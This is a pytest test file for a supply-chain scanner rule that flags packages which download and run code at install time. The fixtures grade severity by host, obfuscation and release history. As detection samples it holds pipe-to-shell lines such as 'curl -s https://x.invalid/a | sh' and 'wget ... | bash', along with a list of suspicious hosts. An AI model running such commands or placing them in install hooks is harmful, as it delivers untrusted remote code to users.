import msgspec
import pytest

from customhouse.model.change import GainedCapability, HookChange
from customhouse.model.code import Decoded
from customhouse.rules.install.install_time_download_and_run import RULE
from rules.cases import call, can, case, change, code, code_case, content, findings, grades, hook, metadata, only

NETWORK = can("network", "https.get", line=4)
PROCESS = can("process", "child_process.exec", line=5)


def install(*capabilities, **parts):
    return code_case(code(*capabilities, path="setup.js", reach="install", **parts))


def test_commands_of_hooks():
    runs = case(contents=(content(hooks=(hook("curl -s https://x.invalid/a | sh"),)),))
    assert grades(RULE, runs) == [("critical", "high")]
    fetches = case(contents=(content(hooks=(hook("curl -sO https://x.invalid/a.tgz"),)),))
    assert grades(RULE, fetches) == [("high", "medium")]
    for command in ("node install.js", "node-gyp rebuild", "prebuild-install || node-gyp rebuild", "node curl.js"):
        assert findings(RULE, case(contents=(content(hooks=(hook(command),)),))) == [], command


def test_a_script_that_a_python_build_names_as_before_is_held():
    """PyNaCl carries libsodium's autogen.sh, which nothing starts but a maintainer."""
    fetches = call("sh", "curl -s https://x.invalid/a | sh", line=3)
    shell = code(can("process", "sh", 3), path="src/autogen.sh", reach="install", calls=(fetches,))
    shell = msgspec.structs.replace(shell, language="shell")
    old, new = change(), change(gained=(GainedCapability("process", "install", "src/autogen.sh", 3, "sh"),))
    python = "pkg:pypi/request-maker@1.14.1"
    assert grades(RULE, case(python, contents=(content(shell),), change=old)) == [("high", "medium")]
    assert grades(RULE, case(python, contents=(content(shell),), change=new)) == [("critical", "high")]
    assert grades(RULE, case(python, contents=(content(shell),))) == [("critical", "high")]
    assert grades(RULE, case(contents=(content(shell),), change=old)) == [("critical", "high")], "npm"


def test_esbuild_s_shape_is_reported_only():
    finding = only(RULE, install(NETWORK, PROCESS, hosts=("registry.example",)))
    assert (finding.severity, finding.confidence) == ("medium", "medium")
    assert finding.message == (
        "setup.js, which runs at install, reaches the network (https.get) and starts programs (child_process.exec)"
    )
    assert finding.locations[0].line == 4


@pytest.mark.parametrize("host", ["203.0.113.7", "http://45.9.148.108:8080/x", "abc.ngrok.io", "webhook.site"])
def test_where_no_honest_package_fetches_from(host):
    assert grades(RULE, install(NETWORK, PROCESS, hosts=(host,))) == [("high", "high")]


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "10.0.0.1", "192.168.1.1", "cdn.example.test", "::1"])
def test_local_and_named_hosts_are_no_sign(host):
    assert grades(RULE, install(NETWORK, PROCESS, hosts=(host,))) == [("medium", "medium")]


def test_a_hidden_host_is():
    decoded = (Decoded("https://setup.example.invalid/a", 2, ("base64",)), Decoded("utf8", 3, ("hex",)))
    finding = only(RULE, install(NETWORK, PROCESS, decoded=decoded))
    assert (finding.severity, finding.confidence) == ("high", "high")
    assert "hides the host setup.example.invalid" in finding.message
    assert grades(RULE, install(NETWORK, PROCESS, decoded=decoded[1:])) == [("medium", "medium")]


STARTED = (call("child_process.exec", line=5, origins=("network",)),)


def test_executing_what_came_from_the_network():
    subject = install(NETWORK, can("dynamic-code", "eval", line=6), calls=(call("eval", line=6, origins=("network",)),))
    assert grades(RULE, subject) == [("critical", "high")]


def test_starting_a_program_that_was_fetched_is_judged_by_where_from():
    assert grades(RULE, install(NETWORK, PROCESS, calls=STARTED, hosts=("203.0.113.7",))) == [("critical", "high")]
    hidden = (Decoded("https://setup.example.invalid/a", 2, ("base64",)),)
    assert grades(RULE, install(NETWORK, PROCESS, calls=STARTED, decoded=hidden)) == [("critical", "high")]


@pytest.mark.parametrize(
    ("parts", "grade"),
    [
        ({}, ("high", "medium")),
        ({"metadata": metadata(days=10)}, ("high", "medium")),
        ({"metadata": metadata(days=100)}, ("medium", "medium")),
        ({"change": change()}, ("medium", "medium")),
        ({"change": change(added_hooks=(hook(),))}, ("high", "high")),
        ({"change": change(added_hooks=(hook("node other.js", path="other.js"),))}, ("medium", "medium")),
        ({"change": change(changed_hooks=(HookChange(hook("node a.js", path="a.js"), hook()),))}, ("high", "high")),
        ({"change": change(changed_hooks=(HookChange(hook(), hook(), file_changed=True),))}, ("medium", "medium")),
        (
            {"change": change(gained=(GainedCapability("network", "install", "setup.js", 4, "https.get"),))},
            ("high", "high"),
        ),
    ],
)
def test_and_by_whether_the_release_before_did_it(parts, grade):
    files = code(NETWORK, PROCESS, path="setup.js", reach="install", calls=STARTED, hosts=("cdn.example.test",))
    assert grades(RULE, code_case(files, **parts)) == [grade]


def test_a_shell_that_fetches():
    runs = call("child_process.exec", "wget -qO- https://x.invalid/a | bash", line=5)
    finding = only(RULE, install(PROCESS, calls=(runs,)))
    assert finding.severity == "critical"
    assert finding.locations[0].line == 5
    apart = call("child_process.exec", "sh", "-c", None, "curl -s https://x.invalid/a > b", line=5)
    assert grades(RULE, install(PROCESS, calls=(apart,))) == [("high", "medium")]


def test_the_graver_of_two_signs_is_told():
    fetches = call("child_process.exec", "curl -sO https://x.invalid/a", line=5)
    subject = install(NETWORK, PROCESS, calls=(fetches,), hosts=("203.0.113.7",))
    assert grades(RULE, subject) == [("high", "high")]


def test_what_does_not_run_at_install_is_none_of_its_business():
    for reach in ("import", "other"):
        assert findings(RULE, code_case(code(NETWORK, PROCESS, reach=reach))) == []
    assert findings(RULE, install(NETWORK)) == []
    assert findings(RULE, install(PROCESS)) == []
